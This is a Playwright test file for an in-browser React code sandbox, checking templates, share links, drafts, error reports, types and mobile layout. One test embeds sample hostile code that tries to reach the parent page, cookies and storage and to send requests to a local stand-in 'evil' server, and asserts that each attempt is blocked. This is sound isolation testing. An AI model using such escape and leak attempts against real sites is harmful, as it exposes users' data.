import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import { SANDBOX_VERSIONS, type SandboxVersion } from '../plugins/sandbox/shared/link';
import { audit, expectAccessibleInBothModes } from './lib/axe';
import { setColourMode } from './lib/colour-mode';
import { drawEighth } from './lib/draw';
import { framesRendered } from './lib/frames';
import {
  expectPhase,
  linkTo,
  openNext,
  openSandbox,
  resultOf,
  run,
  runCode,
  runNext,
  sandboxReady,
} from './lib/sandbox';
import { expect, test } from './lib/test';

const problems = '[aria-label="Problems"]';
const log = '[role="log"]';
const shell = (body: string): string => `export default function App() {\n${body}\n}\n`;

/** A file of the site that has no scripts: from it, a test can fill the storage. */
const NO_PAGE = '/llms.txt';

/** Forgets the draft, so that the next address opens what it names. */
const forgetDraft = (page: Page): Promise<void> =>
  page.evaluate(() => localStorage.removeItem('sandbox-draft'));

test.describe('templates', () => {
  const [next = '8', ...older] = SANDBOX_VERSIONS;
  for (const versions of [[next], older]) {
    test(`render in version ${versions.join(', ')}`, async ({ page }) => {
      // The nightly run renders all.
      test.setTimeout(180_000);
      await openSandbox(page);
      const template = page.getByLabel('Template');
      for (const version of versions) {
        await test.step(`version ${version}`, async () => {
          await page.getByLabel('Version').selectOption(version);
          const claimed = await template
            .locator('option:enabled')
            .evaluateAll(options =>
              options.flatMap(option =>
                option.textContent.includes(' only)') ? [] : (option.getAttribute('value') ?? []),
              ),
            );
          expect(claimed.length).toBeGreaterThan(version === '8' ? 14 : 4);
          // The first template is open already.
          const [first = '', ...others] = claimed;
          for (const id of [...drawEighth(others), first]) {
            await test.step(id, async () => {
              await template.selectOption(id);
              await expect(page).toHaveURL(new RegExp(`template=${id}$`));
              await expectPhase(page, 'rendered');
              await expect(resultOf(page).locator('.queryBuilder')).toHaveCount(1);
              await expect(page.locator(problems)).toContainText('None found.');
              await expect(page.locator(log)).toContainText('Nothing written yet.');
              await expect(page.getByLabel('Version')).toHaveValue(version);
            });
          }
        });
      }
    });
  }

  // Unit tests open each of the library's examples.
  test('open by their names, or what is nearest', async ({ page }) => {
    await test.step('open the basic template for an unknown name and say so', async () => {
      await openSandbox(page, '/sandbox?template=no-such');
      await expect(page.getByText('There is no template “no-such”.')).toBeVisible();
    });
    await test.step('open the nearest to an example of the library and say so', async () => {
      await openSandbox(page, '/sandbox?t=prime');
      await expect(page.getByText('PrimeReact is not a UI kit of this sandbox.')).toBeVisible();
      await expect(page.getByLabel('Template')).toHaveValue('material');
      await expect(page.getByRole('button', { name: 'Take it elsewhere' })).toHaveAttribute(
        'aria-expanded',
        'false',
      );
    });
    await test.step('name the versions that they run in', async () => {
      await openSandbox(page);
      await page.getByLabel('Version').selectOption('3');
      await expect(page.getByLabel('UI kit').getByRole('option')).toHaveText([
        'None (tidy controls)',
        'None (library default)',
      ]);
      await expect(page.getByText('run with version 8 only')).toBeVisible();
      await expect(page.getByLabel('Template')).toContainText('Drag and drop (version 8 only)');
      // What the page starts with exists for each version.
      await expectPhase(page, 'rendered');
    });
  });

  test('run at once, come back on reset, and give way to code that they replaced', async ({
    page,
  }) => {
    const editor = page.locator('.cm-content');
    await test.step('run at once with an editable query', async () => {
      await openSandbox(page, '/sandbox?t=sql');
      await expectPhase(page, 'rendered');
      const result = resultOf(page);
      await result.getByTitle('Add rule').first().click();
      await expect(result.locator('.rule')).toHaveCount(3);
      await expect(result.locator('pre').first()).toContainText("age > '28'");
    });
    await test.step('reset restores what was opened', async () => {
      await editor.click();
      await page.keyboard.press('Control+a');
      await page.keyboard.press('Delete');
      await expect(editor).not.toContainText('formatQuery');
      await page.getByRole('button', { name: 'Reset' }).click();
      await expect(editor).toContainText('formatQuery');
      await expect(page).toHaveURL(/\?template=sql$/);
      await expectPhase(page, 'rendered');
    });
    await test.step('code that a template or Reset replaced comes back', async () => {
      await editor.click();
      await page.keyboard.press('Control+Home');
      await page.keyboard.insertText('// mine\n');
      // What the step before replaced is out of reach now.
      await expect(page.getByText('Your code was replaced.')).toHaveCount(0);
      await page.getByLabel('Version').selectOption('8');
      await page.getByLabel('UI kit').selectOption('mantine');

      await page.getByLabel('Template').selectOption('basic-ts');
      await expect(page.getByText('Your code was replaced.')).toBeVisible();
      await expect(editor).not.toContainText('// mine');
      await page.getByRole('button', { name: 'Undo' }).click();
      await expect(editor).toContainText('// mine');
      await expect(editor).toContainText('formatQuery');
      await expect(page.getByLabel('UI kit')).toHaveValue('mantine');

      await page.getByRole('button', { name: 'Reset' }).click();
      await expect(editor).not.toContainText('// mine');
      await page.keyboard.press('Control+z');
      await expect(editor).toContainText('// mine');
      await expect(page.getByLabel('Version')).toHaveValue('8');
      await expect(page.getByRole('button', { name: 'Undo' })).toHaveCount(0);
    });
  });
});

test.describe('a link', () => {
  const code = shell("  console.log('it ran');\n  return <p>shared</p>;");

  test('runs on request only, opens in the same tab too, and may be broken', async ({ page }) => {
    test.slow();
    const editor = page.locator('.cm-content');
    await test.step('shows its code but runs it only on request', async () => {
      await openSandbox(page, await linkTo(code, '5'));
      await expect(editor).toContainText('it ran');
      await expect(page.getByLabel('Version')).toHaveValue('5');
      await page.waitForLoadState('networkidle');
      await expectPhase(page, 'idle');
      await expect(page.locator(log)).not.toContainText('it ran');
      await run(page);
      await expect(resultOf(page).getByText('shared')).toBeVisible();
      await expect(page.locator(log)).toContainText('it ran');
    });
    await test.step('shows its code in the same tab, and the code before it on Back', async () => {
      const { hash } = new URL(await linkTo(shell('  return <p>second</p>;')), 'http://localhost');
      await page.evaluate(text => {
        window.location.hash = text;
      }, hash);
      await expect(editor).toContainText('second');
      await expectPhase(page, 'idle');
      await page.goBack();
      await expect(editor).toContainText('it ran');
      await page.evaluate(() => {
        window.location.hash = '%E0%A4%A';
      });
      await expect(page.getByText('The link cannot be opened')).toBeVisible();
    });
    await test.step('reports that it is broken', async () => {
      for (const hash of ['1abc', '9abc', '%E0%A4%A']) {
        await openSandbox(page, `/sandbox#${hash}`);
        await expect(page.getByText('The link cannot be opened')).toBeVisible();
      }
    });
  });

  test('contains the code of the reader and opens it again', async ({ page, context }) => {
    test.slow();
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await openSandbox(page);
    await page.locator('.cm-content').click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('// mine\n');
    await page.getByRole('button', { name: 'Copy link' }).click();
    await expect(page.getByText('The link is copied.')).toBeVisible();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    await page.evaluate(() => localStorage.removeItem('sandbox-draft'));
    await openSandbox(page, link);
    await expect(page.locator('.cm-content')).toContainText('// mine');
  });
});

test('keeps a draft across a reload and asks before a link replaces it', async ({ page }) => {
  test.slow();
  await openSandbox(page);
  await page.locator('.cm-content').click();
  await page.keyboard.press('Control+Home');
  await page.keyboard.type('// draft\n');
  await expect(page.locator('.cm-line').first()).toHaveText('// draft');
  await openSandbox(page);
  await expect(page.locator('.cm-content')).toContainText('// draft');

  const link = await linkTo(shell('  return <p>linked</p>;'));
  await page.goto('about:blank');
  await page.goto(link);
  await expect(page.getByRole('alertdialog')).toBeVisible();
  await page.getByRole('button', { name: 'Keep my draft' }).click();
  await expect(page.locator('.cm-content')).toContainText('// draft');

  await page.goto('about:blank');
  await page.goto(link);
  await page.getByRole('button', { name: 'Open the link and discard the draft' }).click();
  await expect(page.locator('.cm-content')).toContainText('linked');
  await openSandbox(page);
  await expect(page.locator('.cm-content')).not.toContainText('// draft');
});

test('loses no key when the page reloads at once', async ({ page }) => {
  await openSandbox(page, await linkTo(shell('  return <p>linked</p>;')));
  await page.locator('.cm-content').click();
  await page.keyboard.press('Control+Home');
  for (const words of ['// one', '// two']) {
    await page.keyboard.type(`${words}\n`);
    await expect(page.locator('.cm-content')).toContainText(words);
    await page.reload();
    await sandboxReady(page);
    await expect(page.locator('.cm-content')).toContainText(words);
    await expect(page.locator('.cm-content')).toContainText('linked');
    await page.locator('.cm-content').click();
    await page.keyboard.press('Control+Home');
  }
  // The link itself is another thing than to come back.
  await page.goto('about:blank');
  await page.goto(await linkTo(shell('  return <p>another</p>;')));
  await expect(page.getByRole('alertdialog')).toBeVisible();
});

test.describe('reports', () => {
  test('what is wrong with code, and what it logs', async ({ page }) => {
    test.slow();
    await test.step('a missing package before code runs', async () => {
      await openSandbox(page, await linkTo("import { Button } from 'antd';\n", '6'));
      await expect(page.locator(problems)).toContainText(
        'The sandbox runs UI kits and drag and drop with version 8 only',
      );
      await expect(page.getByRole('button', { name: 'App.tsx, line 1' })).toBeVisible();
      await page.getByLabel('Version').selectOption('8');
      await expect(page.locator(problems)).toContainText('None found.');
      // The version is an edit, which would be asked about.
      await forgetDraft(page);
    });
    await test.step('the line of code that does not compile', async () => {
      await runCode(page, 'const a = 1;\nconst b = ;\n', 'failed');
      await expect(page.locator(problems)).toContainText('Does not compile');
      await page.getByRole('button', { name: 'App.tsx, line 2' }).click();
      await expect(page.locator('.cm-activeLine')).toContainText('const b = ;');
      await expect(page.locator('.cm-lintRange-error')).toHaveCount(1);
    });
    await test.step('the line of an error in rendering', async () => {
      for (const version of drawEighth(SANDBOX_VERSIONS)) {
        await runNext(page, shell("\n  throw new Error('on line 3');"), 'failed', version);
        await expect(page.locator(problems)).toContainText('Error: on line 3');
        await expect(page.getByRole('button', { name: 'App.tsx, line 3' })).toBeVisible();
      }
    });
    await test.step('errors of a module, an event and a promise', async () => {
      await runNext(page, '\n(undefined as any).x;\n', 'failed');
      await expect(page.getByRole('button', { name: 'App.tsx, line 2' })).toBeVisible();

      const late = `  return (
    <button onClick={() => { throw new Error('from the event'); }}>event</button>
  );`;
      await runNext(page, shell(late), 'rendered');
      await resultOf(page).getByText('event').click();
      await expect(page.locator(problems)).toContainText('from the event');
      await expect(page.getByRole('button', { name: 'App.tsx, line 3' })).toBeVisible();

      await runNext(page, "void Promise.reject(new TypeError('from a promise'));\n", 'failed');
      await expect(page.locator(problems)).toContainText('TypeError: from a promise');
    });
    await test.step('values that the code logs', async () => {
      const code =
        "console.log('text', 1, { a: [null, 'x'] }, new Map([[1, 2]]));\nconsole.error('%s is %d', 'bad', '7 times');\n";
      await runNext(page, code, 'rendered');
      await expect(page.locator(log)).toContainText('text 1 { a: [null, "x"] } Map(1) [[1, 2]]');
      await expect(page.locator(`${log} [data-level="error"]`)).toHaveText('bad is 7');
      await expect(page.getByText('The code ran and rendered nothing.')).toBeVisible();
    });
  });

  test('code that does not end, and what React says', async ({ page }) => {
    test.slow();
    await test.step('what React and the library say in development', async () => {
      for (const version of ['7', '8'] as const) {
        await runNext(page, shell('\n  return <p>{{ a: 1 } as any}</p>;'), 'failed', version);
        await expect(page.locator(problems)).toContainText(
          'Objects are not valid as a React child (found: object with keys {a})',
        );
        const code = `import { QueryBuilder } from 'react-querybuilder';
const Item = ({ name }: { name: string }) => <li>{name}</li>;
const query = { combinator: 'and', rules: [] };
${shell(`  return (
    <>
      <ul>{['a', 'b'].map(name => <Item name={name} />)}</ul>
      <QueryBuilder query={query} defaultQuery={query} />
    </>
  );`)}`;
        await runNext(page, code, 'rendered', version);
        const output = page.locator(log);
        await expect(output).toContainText('Each child in a list should have a unique "key" prop');
        await expect(output).toContainText('Check the render method of `App`');
        await expect(output).toContainText('rendered with both query and defaultQuery props');
        // Neither directives nor addresses of files that a reader does not know.
        await expect(output).not.toContainText(/%[sco]|blob:/);
      }
    });
    await test.step('the line of an endless loop, which it stops', async () => {
      await runNext(page, shell('  while (true) {}\n  return <p>never</p>;'), 'failed');
      await expect(page.locator(problems)).toContainText(
        'The loop in line 2 was stopped because it ran for more than',
      );
      await page.getByRole('button', { name: 'App.tsx, line 2' }).click();
    });
    await test.step('code that hangs, and runs the next code', async () => {
      await runNext(page, "/^(a+)+$/.test('a'.repeat(60) + '!');\n", 'hung');
      await expect(page.locator(problems)).toContainText('did not respond for 3 seconds');
      await page.locator('.cm-content').click();
      await page.keyboard.press('Control+a');
      await page.keyboard.insertText(shell('  return <p>alive</p>;'));
      await run(page);
      await expectPhase(page, 'rendered');
      await expect(resultOf(page).getByText('alive')).toBeVisible();
    });
  });
});

test('denies hostile code the page, storage and network', async ({ page, watch }) => {
  // The browser tells of requests that it blocks as well, so a server counts those that arrive.
  watch.allow(/^console error|^request to another host/);
  const arrived: string[] = [];
  const server = createServer((request, response) => {
    arrived.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').end();
  }).listen(0);
  const { port } = server.address() as AddressInfo;
  const evil = `http://localhost:${port}`;
  // Another name of the same server, so that the report of the last attempt is known by it.
  const last = `http://127.0.0.1:${port}`;
  await page.goto(NO_PAGE);
  await page.evaluate(() => {
    localStorage.setItem('secret', 'stored');
    document.cookie = 'secret=baked';
  });
  const code = `
const attempts: [string, () => unknown][] = [
  ['parent document', () => window.parent.document.body],
  ['top document', () => window.top!.document.body],
  ['parent storage', () => window.parent.localStorage],
  ['storage', () => localStorage.getItem('secret')],
  ['cookie', () => document.cookie],
  ['top navigation', () => { window.top!.location.href = '${evil}/top'; }],
  ['popup', () => window.open('${evil}/popup')],
  ['eval', () => eval('1 + 1')],
  ['function', () => new Function('return 2')()],
  ['fetch', () => fetch('${evil}/fetch')],
  ['fetch of the site', () => fetch('/')],
  ['request', () => { const x = new XMLHttpRequest(); x.open('GET', '${evil}/xhr', false); x.send(); }],
  ['beacon', () => navigator.sendBeacon('${evil}/beacon', 'x') && 'sent'],
  ['worker', () => new Promise((_, no) => { new Worker('${evil}/w.js').onerror = no; })],
  ['database', () => new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })],
  ['registration', () => navigator.serviceWorker.register('/x.js')],
];
for (const [tag, attribute] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href'], ['object', 'data']]) {
  const element = document.createElement(tag);
  if (tag === 'link') element.setAttribute('rel', 'stylesheet');
  element.setAttribute(attribute, '${evil}/' + tag);
  document.body.append(element);
}
const form = document.createElement('form');
form.action = '${evil}/form';
document.body.append(form);
form.submit();
void (async () => {
  for (const [name, attempt] of attempts) {
    try {
      console.log(name, '=>', await attempt());
    } catch (error) {
      console.log(name, '=>', 'denied');
    }
  }
  window.top!.postMessage({ type: 'rendered' }, '*');
  window.parent.postMessage({ type: 'run', order: {} }, '*');
  location.href = '${last}/self';
  console.log('the end');
})();
`;
  await openSandbox(page, await linkTo(code, '8'));
  const address = page.url();
  await run(page);
  await expect(page.locator(log)).toContainText('the end');
  const lines = await page.locator(`${log} pre`).allTextContents();
  const results = Object.fromEntries(lines.map(line => line.split(' => ') as [string, string]));
  for (const name of ['storage', 'popup']) expect(results[name]).toBe('null');
  expect(results.cookie ?? 'denied').toBe('denied');
  for (const name of [
    ...['parent document', 'top document', 'parent storage', 'top navigation', 'eval', 'function'],
    ...['fetch', 'fetch of the site', 'request', 'worker', 'database', 'registration'],
  ]) {
    expect(results[name], name).toBe('denied');
  }
  // The browser reports the last attempt, too.
  await expect.poll(() => watch.problems.join('\n')).toContain(last);
  expect(page.url()).toBe(address);
  expect(arrived).toEqual([]);
  // That the server would have noticed.
  await page.request.get(`${evil}/control`);
  expect(arrived).toEqual(['/control']);
  server.close();
  expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('stored');
});

test('runs code without a network', async ({ page, context, watch }) => {
  // The declarations for checking types come only when the reader turns to the code.
  watch.allow(/ERR_INTERNET_DISCONNECTED/);
  await openSandbox(page, '/sandbox?t=basic-ts');
  await expectPhase(page, 'rendered');
  await context.setOffline(true);
  await page.locator('.cm-content').click();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(
    `import { formatQuery } from 'react-querybuilder';\n${shell(
      "  return <p>{formatQuery({ combinator: 'and', rules: [] }, 'sql')} offline</p>;",
    )}`,
  );
  await run(page);
  await expect(resultOf(page).getByText('(1 = 1) offline')).toBeVisible();
  await context.setOffline(false);
});

test('runs several files with their style sheets, which can be added and deleted', async ({
  page,
}) => {
  const files = [
    {
      name: 'App.tsx',
      code: `import { name } from './data';\nimport list from './list.json';\nimport './look.css';\n${shell('  return <p>{name} {list.length}</p>;')}`,
    },
    { name: 'data.ts', code: "export const name: string = 'Stevie';\n" },
    { name: 'list.json', code: '[1, 2]' },
    { name: 'look.css', code: 'p { color: rgb(1, 2, 3); }' },
  ];
  await runCode(page, files, 'rendered');
  const text = resultOf(page).getByText('Stevie 2');
  await expect(text).toHaveCSS('color', 'rgb(1, 2, 3)');

  await page.getByRole('button', { name: 'Add a file' }).click();
  await page.getByLabel('Name of the file').fill('data.ts');
  await expect(page.getByText('There is a file of that name.')).toBeVisible();
  await page.getByLabel('Name of the file').fill('more.ts');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('tab', { name: 'more.ts' })).toHaveAttribute('aria-selected', 'true');
  await page.getByRole('button', { name: 'Delete more.ts' }).click();
  await expect(page.getByRole('tab', { name: 'more.ts' })).toHaveCount(0);
});

test('shows the result in the colour mode of the page, whatever the system prefers', async ({
  page,
}) => {
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.goto(NO_PAGE);
  await page.evaluate(() => localStorage.setItem('theme', 'light'));
  const files = [
    {
      name: 'App.tsx',
      code: `import './look.css';\n${shell(
        "  return <p>{String(matchMedia('(prefers-color-scheme: dark)').matches)}</p>;",
      )}`,
    },
    {
      name: 'look.css',
      code: '@media screen and (prefers-color-scheme: dark) { p { outline: 1px dashed } }',
    },
  ];
  await runCode(page, files, 'rendered');
  const text = resultOf(page).getByText('false');
  const expectMode = async (mode: string): Promise<void> => {
    await expect(text).toHaveCSS('outline-style', mode === 'dark' ? 'dashed' : 'none');
    const colour = await text.evaluate(element => getComputedStyle(element).color);
    expect(colour).toBe(mode === 'dark' ? 'rgb(227, 227, 227)' : 'rgb(0, 0, 0)');
  };
  await expectMode('light');
  for (const mode of ['dark', 'light'] as const) {
    await setColourMode(page, mode);
    await expectMode(mode);
  }
});

test('runs its template at once, and again after edits unless the switch is off', async ({
  page,
}) => {
  test.slow();
  await openSandbox(page);
  await expectPhase(page, 'rendered');
  const result = resultOf(page);
  await expect(result.locator('.queryBuilder')).toHaveCount(1);
  const write = async (text: string): Promise<void> => {
    await page.locator('.cm-content').click();
    await page.keyboard.press('Control+a');
    await page.keyboard.insertText(`export const App = () => <p>${text}</p>;`);
  };
  await test.step('works by keyboard alone', async () => {
    await page.getByRole('tab', { name: 'App.tsx' }).focus();
    await page.keyboard.press('ArrowRight');
    await expect(page.getByRole('tab', { name: 'main.tsx' })).toBeFocused();
    await expect(page.locator('.cm-content')).toContainText('createRoot');
    await page.keyboard.press('Home');
    await expect(page.getByRole('tab', { name: 'App.tsx' })).toBeFocused();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    await expect(page.locator('.cm-content')).toBeFocused();
    // Tab indents, so it stays within the editor; after Escape it leaves.
    await page.keyboard.press('Tab');
    await expect(page.locator('.cm-content')).toBeFocused();
    await page.keyboard.press('Control+Enter');
    await expectPhase(page, 'rendered');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Tab');
    await expect(page.locator('.cm-content')).not.toBeFocused();
  });
  await test.step('runs the next edit after Stop', async () => {
    await page.getByRole('button', { name: 'Stop' }).click();
    await expectPhase(page, 'stopped');
    await expect(page.locator('[data-phase]')).toHaveText('Stopped.');
    await expect(result.locator('.queryBuilder')).toHaveCount(0);
    await write('after Stop');
    await expect(result.getByText('after Stop')).toBeVisible();
  });
  await write('after an edit');
  await expect(result.getByText('after an edit')).toBeVisible();
  await page.getByLabel('Run automatically').uncheck();
  await write('on request');
  await expect(page.getByText('The code has changed since.')).toBeVisible();
  await page.reload();
  await sandboxReady(page);
  await expect(page.getByLabel('Run automatically')).not.toBeChecked();
  // A draft may be code from a link, so it waits for the reader.
  await expectPhase(page, 'idle');
  await run(page);
  await expect(result.getByText('on request')).toBeVisible();
  await expect(page.getByText('The code has changed since.')).toHaveCount(0);
});

test('runs no template by itself while the switch is off', async ({ page }) => {
  await page.goto(NO_PAGE);
  await page.evaluate(() => localStorage.setItem('sandbox-automatic-runs', 'off'));
  await openSandbox(page, '/sandbox?t=sql');
  const automatic = page.getByLabel('Run automatically');
  await expect(automatic).not.toBeChecked();
  await page.waitForLoadState('networkidle');
  await expectPhase(page, 'idle');
  await expect(page.getByText('Press Run to see the result.')).toBeVisible();
  await run(page);
  await expectPhase(page, 'rendered');
  // Another template clears the result of the one before.
  await page.getByLabel('Template').selectOption('basic-ts');
  await expectPhase(page, 'idle');
  await expect(page.getByText('Press Run to see the result.')).toBeVisible();
  await automatic.check();
  await expectPhase(page, 'rendered');
  await expect(resultOf(page).locator('.queryBuilder')).toHaveCount(1);
});

test('brings back replaced code after a reload', async ({ page }) => {
  test.slow();
  const editor = page.locator('.cm-content');
  const edit = async (): Promise<void> => {
    await editor.click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.insertText('// mine\n');
    await expect(editor).toContainText('// mine');
  };
  await openSandbox(page, '/sandbox?t=sql');
  await edit();
  await page.getByLabel('Version').selectOption('5');
  await page.getByLabel('Template').selectOption('value-editor');
  await expectPhase(page, 'rendered');
  await page.reload();
  await sandboxReady(page);
  await expectPhase(page, 'rendered');
  await expect(editor).not.toContainText('// mine');
  await expect(page.getByText('Your code was replaced.')).toBeVisible();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(editor).toContainText('// mine');
  await expect(editor).toContainText('formatQuery');
  await expect(page.getByLabel('Version')).toHaveValue('5');
  await expectPhase(page, 'idle');

  // Reset returns to the code of the link, and so does a reload.
  await page.evaluate(() => localStorage.removeItem('sandbox-draft'));
  await openSandbox(page, await linkTo(shell('  return <p>linked</p>;')));
  await edit();
  await page.getByRole('button', { name: 'Reset' }).click();
  await expect(editor).not.toContainText('// mine');
  await page.reload();
  await sandboxReady(page);
  await expect(editor).toContainText('linked');
  await expect(editor).not.toContainText('// mine');
  await page.getByRole('button', { name: 'Reset' }).focus();
  await page.keyboard.press('Control+z');
  await expect(editor).toContainText('// mine');
  await expect(editor).toContainText('linked');
  await expectPhase(page, 'idle');
});

test('keeps code of a link waiting after a template was undone', async ({ page }) => {
  await page.clock.install();
  await openSandbox(page, await linkTo(shell("  console.log('it ran');\n  return <p>linked</p>;")));
  const editor = page.locator('.cm-content');
  await editor.click();
  await page.keyboard.press('Control+Home');
  await page.keyboard.insertText('// mine\n');
  const template = page.getByLabel('Template');
  await template.selectOption('sql');
  await expectPhase(page, 'rendered');
  await template.selectOption('basic-ts');
  await expectPhase(page, 'rendered');
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(editor).toContainText('// mine');
  await framesRendered(page);
  // Longer than the delay of automatic runs.
  await page.clock.runFor(1500);
  await expectPhase(page, 'idle');
  await expect(page.locator(log)).not.toContainText('it ran');
});

test('has no accessibility finding in either mode, and frames of the structure of the page', async ({
  page,
}) => {
  test.slow();
  await openSandbox(page, '/sandbox?t=basic-ts');
  await expectPhase(page, 'rendered');
  // The frame holds what the reader's code renders.
  await expectAccessibleInBothModes(page, { exclude: '[aria-label="Result"] iframe' });

  await test.step('has frames that belong to the structure of the page', async () => {
    const rulesInFrames = [
      'document-title',
      'frame-title',
      'html-has-lang',
      'landmark-one-main',
      'page-has-heading-one',
      'region',
    ];
    const { passes, findings } = await audit(page, { rulesInFrames });
    expect(findings).toEqual([]);
    expect(passes).toBe(rulesInFrames.length);
  });

  await test.step('has a title, a main landmark and a heading in each frame', async () => {
    for (const code of [shell('  return <p>text</p>;'), shell('  return <main>own</main>;')]) {
      await runNext(page, code, 'rendered', '8');
      const frames = page.frames().slice(1);
      expect(frames).toHaveLength(2);
      for (const frame of frames) {
        expect(await frame.title()).not.toBe('');
        await expect(frame.getByRole('main')).toHaveCount(1);
        await expect(frame.getByRole('heading', { level: 1 })).toHaveCount(1);
      }
    }
  });
});

test('runs code of other projects', async ({ page }) => {
  test.slow();
  for (const [name, file, code, kit, shown] of [
    [
      'a kit with its minified style sheet',
      'App.jsx',
      `import 'bootstrap/dist/css/bootstrap.min.css';
import { QueryBuilder } from 'react-querybuilder';
export default function Q() { return <QueryBuilder fields={[{ name: 'age', label: 'Age' }]} />; }`,
      'bootstrap',
      '.queryBuilder',
    ],
    [
      'a control by React.FC with a component by its path',
      'CustomEditor.tsx',
      `import React from 'react';
import TextField from '@mui/material/TextField';
import type { ValueEditorProps } from 'react-querybuilder';
const CustomEditor: React.FC<ValueEditorProps> = ({ value, handleOnChange }) => <TextField value={value || ''} onChange={e => handleOnChange(e.target.value)} label="Value" />;
export default CustomEditor;`,
      'material',
      '.queryBuilder .MuiTextField-root',
    ],
    [
      'a component of Ant Design by its path',
      'App.tsx',
      `import Button from 'antd/es/button';
export default () => <Button>shown</Button>;`,
      'antd',
      '.ant-btn',
    ],
    [
      'CommonJS',
      'App.js',
      `const React = require('react');
exports.default = () => <p className="shown">\`</p>;`,
      'default',
      '.shown',
    ],
  ] as const) {
    await test.step(`runs ${name}`, async () => {
      await openNext(page, await linkTo([{ name: file, code }], '8', kit));
      await run(page);
      await expectPhase(page, 'rendered');
      await expect(resultOf(page).locator(shown).first()).toBeVisible();
      await expect(page.locator(problems)).toContainText('None found.');
    });
  }
});

test('says that the compiler did not arrive, and runs the code on Retry', async ({ page }) => {
  await page.clock.install();
  await page.addInitScript(() => {
    // A worker whose script never arrives.
    class Silent extends EventTarget {
      postMessage(): void {
        // Nothing runs.
      }
      terminate(): void {
        // Nothing runs.
      }
    }
    window.Worker = new Proxy(window.Worker, {
      construct: (Real, [url, options]: [string, WorkerOptions?]) =>
        options?.name === 'sandbox-compile' && !('answers' in window)
          ? new Silent()
          : new Real(url, options),
    });
  });
  await openSandbox(page, await linkTo(shell('  return <p>alive</p>;')));
  await run(page);
  await expect(page.locator('[data-phase]')).toHaveAttribute('data-phase', 'compiling');
  await page.clock.fastForward(20_000);
  await expectPhase(page, 'failed');
  await expect(page.locator(problems)).toContainText('Its files did not arrive in 20 seconds.');
  await page.evaluate(() => Object.assign(window, { answers: true }));
  await page.getByRole('button', { name: 'Retry' }).click();
  await expectPhase(page, 'rendered');
  await expect(resultOf(page).getByText('alive')).toBeVisible();
});

test.describe('on a phone', () => {
  test.use({ viewport: { width: 360, height: 740 }, hasTouch: true });

  test('fits the screen, and shows the result or the code', async ({ page }) => {
    await openSandbox(page, '/sandbox?t=basic-ts');
    await expectPhase(page, 'rendered');
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(360);
    await run(page);
    await expectPhase(page, 'rendered');
    await expect(resultOf(page).locator('.queryBuilder')).toBeInViewport();

    const view = page.getByRole('group', { name: 'View' });
    await view.getByRole('button', { name: 'Code' }).tap();
    await expect(page.getByRole('region', { name: 'Result' })).toBeHidden();
    await page.locator('.cm-content').focus();
    await page.keyboard.press('Control+Enter');
    await expect(resultOf(page).locator('.queryBuilder')).toBeInViewport();
    await expect(view.getByRole('button', { name: 'Result' })).toBeFocused();
    await expect(page.locator('.cm-content')).toBeHidden();
  });
});

test.describe('types', () => {
  const codeFor = (version: SandboxVersion): string => `import ${
    version === '3' ? 'QueryBuilder' : '{ QueryBuilder }'
  } from 'react-querybuilder';
export default function App() {
  return <QueryBuilder fields={42}${version === '3' ? ' onQueryChange={() => {}}' : ''} />;
}
`;

  /** Milliseconds for which CodeMirror's list ignores keys: more than its `interactionDelay` of 75. */
  const INTERACTION_DELAY = 150;

  /** A prop of each version; the first two and `idGenerator` are not in the versions before. */
  const PROPS: Readonly<Record<string, string>> = {
    '8': 'showMuteButtons',
    '7': 'showShiftActions',
    '6': 'getRuleClassname',
    '5': 'idGenerator',
    '4': 'showLockButtons',
    '3': 'showCloneButtons',
  };

  const [next = '8', ...older] = SANDBOX_VERSIONS;
  for (const version of [next, ...drawEighth(older)]) {
    test(`of version ${version} are checked and completed when the code is focused`, async ({
      page,
    }) => {
      test.slow();
      const requests: string[] = [];
      page.on('request', request => requests.push(request.url()));
      await openSandbox(page, await linkTo(codeFor(version), version));
      expect(requests.filter(url => /types|libraries/.test(url))).toEqual([]);
      await page.locator('.cm-content').click();
      const status = page.locator('[data-types]');
      await expect(status).toContainText(/compiler and the declarations|first check/);
      await expect(page.locator(problems)).toContainText('Type error:', { timeout: 60_000 });
      await expect(page.locator(problems)).toContainText("Type 'number' is not assignable");
      await expect(status).toHaveText('');

      // Before the prop with the error, to which the button leads.
      await page.getByRole('button', { name: 'App.tsx, line 3' }).click();
      const prop = PROPS[version] ?? '';
      await page.keyboard.type(`${prop.slice(0, -6)} `);
      await page.keyboard.press('ArrowLeft');
      const option = page.locator('.cm-tooltip-autocomplete [aria-selected="true"]');
      const line = page.locator('.cm-activeLine');
      // Enter is a new line while the list is new or renewed.
      await expect(async () => {
        await page.keyboard.press('Control+Space');
        await expect(option).toContainText(prop, { timeout: 10_000 });
        await option.evaluate(
          (_, delay) => new Promise(resolve => setTimeout(resolve, delay)),
          INTERACTION_DELAY,
        );
        await page.keyboard.press('Enter');
        const isTaken = (await line.textContent())?.includes(`<QueryBuilder ${prop} fields`);
        if (!isTaken) await page.keyboard.press('Control+z');
        expect(isTaken).toBe(true);
      }).toPass({ timeout: 60_000 });
    });
  }
});

test('formats the code or says why it cannot', async ({ page }) => {
  await openSandbox(page, await linkTo('export default function App(){return <p>a</p>}'));
  await page.getByRole('button', { name: 'Format' }).click();
  await expect(page.locator('.cm-line').first()).toHaveText('export default function App() {');
  // The code that was formatted is a draft by now.
  await page.goto(await linkTo('const a = ;'));
  await page.getByRole('button', { name: 'Open the link and discard the draft' }).click();
  await page.getByRole('button', { name: 'Format' }).click();
  await expect(page.getByText('Not formatted:')).toBeVisible();
});

test.describe('export', () => {
